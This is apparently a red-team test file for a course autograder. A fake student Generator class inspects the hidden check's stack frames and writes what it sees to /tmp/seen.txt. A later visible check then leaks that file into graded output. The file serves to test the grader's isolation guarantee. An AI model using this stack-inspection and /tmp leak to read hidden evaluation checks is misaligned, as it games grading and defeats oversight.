"""Red team: carry what a hidden check does from its own child to a later visible check, through /tmp.

A hidden check runs the student's code (its collect builds Generator(nz=10, ngf=16)), so that code
sees the hidden check while it runs: its arguments, and the check's frames on the stack. The
zygote cleans up after each child only the child's own work folder (/tmp/check-*), /dev/shm and
the SysV objects (autograder/zygote.py `_fork`'s finally: remove_tree(workdir), _remove_ipc): a
file written directly in /tmp stays for the namespace's later children. Generator.__init__ below
writes what it sees there when it is built with nz=10; part2's onehot (cgan.onehot, a visible check
graded after the hidden ones, grading.yml's order) puts the file in its exception message, which
the grader copies into results.json. The same file is also written beside the grader's own files,
where a checkout under /tmp has them bound (Zygote._reset_tmp keeps the binds, clears the rest).

The guarantee (autograder/checks/hidden.py's docstring, test_hidden_checks_do_not_reach_the_students_output):
nothing of the hidden checks appears in the student's output.
"""
import os
import sys

import autograder

# /tmp, and the folder holding the grader's package: when the checkout lives under the host's /tmp
# (a CI clone), bwrap binds its files into the namespace's /tmp inside folders made on the tmpfs,
# which this code can write into (elsewhere the folder is read-only and the write fails).
FOLDERS = ("/tmp", os.path.dirname(os.path.dirname(autograder.__file__)))

from reference.part1_dcgan import *  # noqa: F401,F403
from reference.part1_dcgan import Generator as _Generator


class Generator(_Generator):
    def __init__(self, nz=100, ngf=64, nc=3):
        if nz != 100 or ngf != 64:
            seen = [f"Generator(nz={nz}, ngf={ngf})"]
            frame = sys._getframe(1)
            while frame is not None:
                for name in ("rubric_id", "network", "self"):
                    value = frame.f_locals.get(name)
                    if value is not None and "width_arguments" in repr(value)[:2000]:
                        seen.append(f"{name}={repr(value)[:300]}")
                frame = frame.f_back
            for folder in FOLDERS:
                try:
                    with open(os.path.join(folder, "seen.txt"), "a") as f:
                        f.write("; ".join(seen) + "\n")
                except OSError:
                    pass
        super().__init__(nz, ngf, nc)
